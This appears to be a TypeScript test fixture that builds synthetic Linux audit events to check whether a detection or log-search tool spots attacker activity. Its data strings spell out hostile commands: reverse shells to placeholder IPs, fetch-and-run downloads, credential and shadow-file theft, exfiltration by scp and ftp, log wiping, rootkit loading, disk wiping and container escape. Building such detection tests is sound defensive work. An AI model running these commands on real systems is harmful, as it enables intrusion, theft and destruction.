import type { Needle } from "./needle.ts";
import { rowsOf } from "./needle.ts";

/** parent ;; program ;; command line ;; mark */
const STARTS = String.raw`
/usr/sbin/nginx ;; /bin/sh ;; sh -c id; cat /var/www/.htpasswd ;; .htpasswd
/usr/sbin/php-fpm7.4 ;; /bin/bash ;; bash -c curl -s http://185.220.101.4/x.sh | bash ;; x.sh
/usr/bin/java ;; /bin/sh ;; /bin/sh -c wget -q -O /tmp/ldr http://45.9.148.35/ldr ;; ldr
/bin/bash ;; /bin/bash ;; bash -i >& /dev/tcp/203.0.113.77/4444 0>&1 ;; 203.0.113.77/4444
/bin/bash ;; /usr/bin/nc ;; nc -e /bin/sh 198.51.100.23 9001 ;; 198.51.100.23
/bin/bash ;; /usr/bin/python3 ;; python3 -c import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.9",8443)) ;; s.connect
/bin/bash ;; /usr/bin/perl ;; perl -MIO -e $p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"203.0.113.5:53") ;; PeerAddr
/bin/bash ;; /usr/bin/socat ;; socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.8:7443 ;; tcp:203.0.113.8
/bin/bash ;; /usr/bin/curl ;; curl -fsSL http://evil.example/run.sh -o /tmp/.run ;; /tmp/.run
/bin/bash ;; /bin/chmod ;; chmod 4755 /var/tmp/.bash ;; /var/tmp/.bash
/bin/bash ;; /usr/sbin/useradd ;; useradd -o -u 0 -g 0 -M support2 ;; support2
/bin/bash ;; /usr/sbin/usermod ;; usermod -aG sudo svc-backup ;; svc-backup
/bin/bash ;; /usr/bin/passwd ;; passwd games ;; passwd games
/bin/bash ;; /bin/cat ;; cat /etc/shadow ;; /etc/shadow
/bin/bash ;; /usr/bin/find ;; find / -name id_rsa -o -name *.pem ;; id_rsa
/bin/bash ;; /bin/cat ;; cat /root/.aws/credentials ;; .aws/credentials
/bin/bash ;; /usr/bin/curl ;; curl http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role ;; security-credentials
/bin/bash ;; /usr/bin/crontab ;; crontab /tmp/.c ;; crontab /tmp/.c
/bin/bash ;; /bin/systemctl ;; systemctl stop auditd ;; stop auditd
/bin/bash ;; /bin/systemctl ;; systemctl disable --now threatstack ;; threatstack
/bin/bash ;; /usr/sbin/setenforce ;; setenforce 0 ;; setenforce
/bin/bash ;; /sbin/iptables ;; iptables -F ;; iptables -F
/bin/bash ;; /sbin/auditctl ;; auditctl -D ;; auditctl -D
/bin/bash ;; /usr/bin/shred ;; shred -zu /var/log/auth.log ;; shred
/bin/bash ;; /bin/rm ;; rm -f /root/.bash_history ;; .bash_history
/bin/bash ;; /bin/ln ;; ln -sf /dev/null /home/deploy/.bash_history ;; /dev/null /home/deploy
/bin/bash ;; /usr/bin/touch ;; touch -r /bin/ls /usr/bin/.sshd ;; /usr/bin/.sshd
/bin/bash ;; /sbin/insmod ;; insmod ./diamorphine.ko ;; diamorphine
/bin/bash ;; /usr/bin/gcc ;; gcc -o /tmp/pwn /tmp/pwn.c ;; /tmp/pwn
/bin/bash ;; /tmp/pwn2 ;; ./pwn2 ;; /tmp/pwn2
/bin/bash ;; /dev/shm/kworker ;; kworker -o stratum+tcp://pool.example:3333 ;; stratum
/bin/bash ;; /usr/bin/tcpdump ;; tcpdump -i any -w /tmp/cap port 21 ;; tcpdump
/bin/bash ;; /usr/bin/nmap ;; nmap -sS 10.0.0.0/16 ;; nmap
/bin/bash ;; /usr/bin/ssh ;; ssh -N -R 2222:localhost:22 tunnel@203.0.113.40 ;; tunnel@203.0.113.40
/bin/bash ;; /usr/bin/scp ;; scp /var/backups/db.sql.gz drop@198.51.100.77:/srv/in ;; drop@198.51.100.77
/bin/bash ;; /bin/tar ;; tar czf /tmp/o.tgz /etc /home/deploy/.ssh ;; o.tgz
/bin/bash ;; /usr/bin/curl ;; curl -T /tmp/o2.tgz ftp://198.51.100.70/ ;; ftp://198.51.100.70
/bin/bash ;; /usr/bin/docker ;; docker run -v /:/host --privileged -it alpine chroot /host ;; chroot /host
/bin/bash ;; /usr/bin/nsenter ;; nsenter -t 1 -m -u -n -i sh ;; nsenter
/bin/bash ;; /usr/bin/kubectl ;; kubectl get secrets --all-namespaces -o yaml ;; get secrets
/bin/bash ;; /usr/bin/gdb ;; gdb -p 811 -batch -ex dump ;; gdb
/bin/bash ;; /usr/bin/strace ;; strace -f -e trace=read -p 1021 ;; strace
/usr/bin/sudo ;; /bin/su ;; su - ;; su -
/bin/bash ;; /usr/bin/sudo ;; sudo tee -a /etc/sudoers.d/90-x ;; 90-x
/bin/bash ;; /usr/bin/tee ;; tee -a /root/.ssh/authorized_keys ;; authorized_keys
/bin/bash ;; /usr/bin/openssl ;; openssl enc -aes-256-cbc -salt -in /srv/data/customers.db -out /srv/data/customers.db.enc ;; customers.db.enc
/bin/bash ;; /bin/dd ;; dd if=/dev/zero of=/dev/nvme0n1 bs=1M ;; of=/dev/nvme0n1
/bin/bash ;; /usr/bin/chattr ;; chattr +i /etc/cron.d/sysupd ;; sysupd
/bin/bash ;; /usr/bin/base64 ;; base64 -d /tmp/.p ;; /tmp/.p
/bin/bash ;; /usr/bin/getcap ;; getcap -r / ;; getcap
/usr/sbin/mysqld ;; /bin/sh ;; sh -c whoami > /tmp/o ;; whoami > /tmp/o
/usr/bin/redis-server ;; /bin/bash ;; bash -c crontab -l ;; crontab -l
/bin/bash ;; /usr/bin/wget ;; wget -O - https://pastebin.com/raw/Zx81 ;; pastebin
/bin/bash ;; /usr/bin/script ;; script -qc /bin/bash /dev/null ;; script -qc
/bin/bash ;; /usr/bin/at ;; at now + 1 minute -f /tmp/j ;; at now
/bin/bash ;; /bin/mount ;; mount -o remount,rw /boot ;; remount,rw
/bin/bash ;; /usr/bin/debugfs ;; debugfs /dev/xvda1 ;; debugfs
/bin/bash ;; /usr/bin/ldapsearch ;; ldapsearch -x -b dc=corp,dc=example (objectClass=user) ;; ldapsearch
/bin/bash ;; /usr/bin/vim ;; vim -c :!/bin/sh ;; :!/bin/sh
/bin/bash ;; /usr/bin/awk ;; awk BEGIN{system("/bin/sh")} ;; awk BEGIN
`;

/** call ;; program ;; file or address ;; mark */
const CALLS = String.raw`
connect ;; /bin/bash ;; 203.0.113.91:443 ;; 203.0.113.91
connect ;; /usr/bin/python3 ;; 198.51.100.91:6667 ;; 198.51.100.91
connect ;; /tmp/.ICE-unix/x ;; 203.0.113.92:8080 ;; 203.0.113.92
connect ;; /usr/bin/perl ;; 198.51.100.93:25 ;; 198.51.100.93
listen ;; /usr/bin/ncat ;; 0.0.0.0:31337 ;; 31337
ptrace ;; /usr/bin/python3 ;;  ;; ptrace
finit_module ;; /usr/bin/kmod ;; /lib/modules/5.4.0/extra/rk.ko ;; rk.ko
init_module ;; /tmp/ins ;;  ;; init_module
unlink ;; /bin/rm ;; /var/log/wtmp ;; /var/log/wtmp
rename ;; /bin/mv ;; /etc/ld.so.preload ;; ld.so.preload
creat ;; /usr/bin/vi ;; /etc/cron.d/zz ;; cron.d/zz
chmod ;; /bin/chmod ;; /usr/bin/find ;; chmod
open ;; /usr/bin/less ;; /etc/gshadow ;; gshadow
symlink ;; /bin/ln ;; /etc/systemd/system/multi-user.target.wants/dbus2.service ;; dbus2.service
`;

/** action ;; program ;; file ;; mark */
const FILES = String.raw`
create ;; /usr/sbin/php-fpm7.4 ;; /var/www/html/uploads/up.php ;; up.php
modify ;; /usr/bin/vim ;; /etc/passwd ;; /etc/passwd
modify ;; /usr/bin/python3 ;; /etc/pam.d/sshd ;; pam.d/sshd
create ;; /usr/bin/curl ;; /usr/local/bin/.upd ;; .upd
delete ;; /bin/rm ;; /var/log/secure ;; /var/log/secure
modify ;; /usr/bin/tee ;; /root/.ssh/authorized_keys ;; authorized_keys
create ;; /bin/cp ;; /lib/systemd/system/netd.service ;; netd.service
modify ;; /bin/sed ;; /etc/ssh/sshd_config ;; sshd_config
create ;; /usr/bin/wget ;; /dev/shm/.x/a ;; /dev/shm/.x
modify ;; /bin/bash ;; /home/deploy/.bashrc ;; .bashrc
`;

export const LINUX_NEEDLES: readonly Needle[] = [
  ...rowsOf(STARTS).map(([parent = "", exe = "", line = "", mark = ""]) =>
    needle(mark, {
      event_type: "audit",
      type: "start",
      syscall: "execve",
      exe,
      command: exe.slice(exe.lastIndexOf("/") + 1),
      arguments: line,
      args: line.split(" "),
      path: [exe],
      parent_metadata: { exe: parent, pid: 4100 },
    }),
  ),
  ...rowsOf(CALLS).map(([call = "", exe = "", object = "", mark = ""]) => {
    const [address = "", port = ""] = object.split(":");
    const isAddress = /^\d+\.\d+\.\d+\.\d+:\d+$/.test(object);
    const target = isAddress
      ? { dst_ip: address, dst_port: Number(port) }
      : { path: object === "" ? [] : [object] };
    return needle(mark, {
      event_type: "audit",
      type: call,
      syscall: call,
      exe,
      command: exe.slice(exe.lastIndexOf("/") + 1),
      ...target,
      ...(call === "chmod" ? { arguments: "u+s" } : {}),
    });
  }),
  ...rowsOf(FILES).map(([type = "", exe = "", filename = "", mark = ""]) =>
    needle(mark, {
      event_type: "file",
      type,
      exe,
      command: exe.slice(exe.lastIndexOf("/") + 1),
      filename,
    }),
  ),
];

function needle(mark: string, fields: Record<string, unknown>): Needle {
  return { platform: "linux", mark, fields };
}
